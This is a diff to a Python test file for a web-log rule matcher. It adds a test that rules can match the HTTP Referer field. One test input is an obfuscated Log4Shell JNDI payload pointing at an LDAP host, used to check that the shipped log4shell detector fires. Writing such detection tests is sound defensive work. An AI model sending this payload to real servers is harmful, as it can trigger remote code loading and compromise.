@@ -612,3 +612,28 @@ def test_explain_says_which_exclusion_excused_a_rule(capsys: pytest.CaptureFixtu
         ("xss-probe", "open-webui-search-text")
     ]
     assert record["detectors"] == []
+
+
+REFERER_RULE = """
+[[rules]]
+id = "local-referer-spam"
+description = "referer spam from a known spam domain"
+match.referer.contains = ["spam.example"]
+tests = [{ request = "GET / HTTP/1.1", referer = "https://spam.example/buy", status = 200 }]
+"""
+
+
+def test_a_rule_matches_the_referer_field_and_any_includes_it(tmp_path: Path) -> None:
+    """A ``referer`` condition matches the logged Referer only (not one missing), and an
+    ``any`` condition (log4shell) sees a payload sent in the Referer."""
+    write(tmp_path, "r.toml", REFERER_RULE)
+    ruleset = load_rules(tmp_path, builtin=False)
+    matcher = Matcher(ruleset.rules)
+    spam = req("/", status=200)._replace(referer="https://SPAM.example/buy")
+    assert [r.id for r in matcher.match(spam)[0]] == ["local-referer-spam"]
+    assert matcher.match(req("/spam.example", status=200))[0] == []
+    assert matcher.match(req("/", agent="spam.example", status=200))[0] == []
+    shipped = Matcher(load_rules(None).rules)
+    probe = req("/", status=200)._replace(referer="${jnd${sys:x:-i}:ldap://198.51.100.7/a}")
+    assert [r.id for r in shipped.match(probe)[0]] == ["log4shell"]
+    assert shipped.match(probe._replace(referer="https://example.com/${WEBLOC}"))[0] == []
